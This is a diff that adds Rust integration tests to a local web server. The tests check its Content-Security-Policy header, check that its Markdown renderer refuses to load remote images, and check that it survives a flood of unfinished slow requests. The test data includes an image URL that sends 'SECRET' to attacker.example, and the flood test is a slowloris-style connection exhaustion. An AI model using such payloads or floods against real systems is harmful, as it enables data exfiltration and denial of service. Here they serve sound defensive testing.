@@ -32,6 +32,10 @@ fn local_mode_banner_and_plain_routes() {
     let page = server.http("GET", "/", &[], None);
     assert_eq!(page.status, 200);
     assert_eq!(page.header("cache-control"), Some("no-cache, no-store, must-revalidate"));
+    // Issue 30 item 4: the page may load and connect only to its own origin.
+    let csp = page.header("content-security-policy").expect("the page carries a CSP");
+    assert!(csp.contains("default-src 'self'") && csp.contains("img-src 'self' data: blob:;"), "{csp}");
+    assert!(csp.contains(&format!("connect-src 'self' ws://127.0.0.1:{}", server.port)), "{csp}");
     let status = server.terminate().expect("exits on SIGTERM");
     assert!(status.success(), "{status:?}");
 }
@@ -205,4 +209,77 @@ fn the_help_flag_is_long_only() {
     let help = String::from_utf8_lossy(&output.stdout);
     assert!(help.contains("--dangerously-omit-auth") && help.contains("-h, --host"), "{help}");
     assert!(help.contains("--auth-token-file"), "{help}");
+}
+
+/// Issue 30 item 4 and the "also found" list: the UI's Markdown renderer (run in Node.js) shows a
+/// remote image as a link instead of loading it, still draws `data:` images, and keeps a code
+/// span inside a link's label (it rendered as `0`).
+#[test]
+fn markdown_never_loads_remote_images_and_keeps_code_in_links() {
+    let module = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src/web/ui/assets/markdown.js");
+    let script = format!(
+        "import {{ renderMarkdown }} from {:?};\n\
+         const out = [\"![leak](https://attacker.example/?d=SECRET)\", \"![dot](data:image/png;base64,iVBORw0KGgo=)\",\n\
+           \"see [`cargo test`](https://doc.rust-lang.org)\"].map(renderMarkdown);\n\
+         console.log(JSON.stringify(out));",
+        format!("file://{}", module.display())
+    );
+    let output = match std::process::Command::new("node").args(["--input-type=module", "-e", &script]).output() {
+        Ok(o) => o,
+        Err(e) => return crate::npm::skip("the Markdown renderer test", &format!("Node.js cannot be run: {e}")),
+    };
+    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+    let out: Vec<String> = serde_json::from_slice(&output.stdout).unwrap();
+    assert!(!out[0].contains("<img"), "a remote image is never loaded: {}", out[0]);
+    assert!(out[0].contains(r#"<a class="remote-image" href="https://attacker.example/?d=SECRET""#), "{}", out[0]);
+    assert!(out[1].contains(r#"<img src="data:image/png;base64,iVBORw0KGgo=""#), "{}", out[1]);
+    assert!(out[2].contains("<code>cargo test</code></a>"), "{}", out[2]);
+}
+
+/// Issue 30 item 5: requests that never finish their head, and keep-alive connections left
+/// idle, are closed by the server (within its head-read limit), so a flood of them against a
+/// process with few descriptors (256 here, soft and hard) neither exhausts them for good nor
+/// keeps the server unreachable.
+#[test]
+fn unfinished_requests_are_dropped_and_the_server_stays_reachable() {
+    use std::io::{Read as _, Write as _};
+    use std::os::unix::process::CommandExt as _;
+    let home = scripted_home();
+    let mut cmd = home.command(&["-p", &free_port().to_string(), "--dangerously-omit-auth"]);
+    // SAFETY: only setrlimit, which is async-signal-safe, runs between fork and exec.
+    unsafe {
+        cmd.pre_exec(|| {
+            let limit = libc::rlimit { rlim_cur: 256, rlim_max: 256 };
+            libc::setrlimit(libc::RLIMIT_NOFILE, &limit);
+            Ok(())
+        });
+    }
+    let server = super::web_kit::Server::start(cmd);
+    assert_ne!(server.port, 0, "{:?}", server.banner);
+    let mut idle = std::net::TcpStream::connect(("127.0.0.1", server.port)).unwrap();
+    idle.write_all(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n").unwrap();
+    let mut flood = Vec::new();
+    for _ in 0..300 {
+        let Ok(mut c) = std::net::TcpStream::connect(("127.0.0.1", server.port)) else { break };
+        let _ = c.write_all(b"GET /api/sessions/ HTTP/1.1\r\nHost: localhost\r\nX-Slow: ");
+        flood.push(c);
+    }
+    assert!(flood.len() > 256, "the flood is bigger than the descriptors: {}", flood.len());
+    // Every connection, the idle keep-alive one included, is closed by the server.
+    let closed = |c: &mut std::net::TcpStream| -> bool {
+        c.set_read_timeout(Some(super::web_kit::WAIT * 2)).unwrap();
+        let mut sink = Vec::new();
+        c.read_to_end(&mut sink).is_ok()
+    };
+    assert!(closed(&mut idle), "the idle keep-alive connection stays open");
+    let held = flood.iter_mut().take(50).map(closed).filter(|done| !done).count();
+    assert_eq!(held, 0, "unfinished requests are held");
+    drop(flood);
+    assert!(
+        super::web_kit::wait_until(super::web_kit::WAIT, || {
+            std::net::TcpStream::connect(("127.0.0.1", server.port)).is_ok()
+                && server.http("GET", "/healthz", &[], None).status == 200
+        }),
+        "the server is unreachable after the flood"
+    );
 }
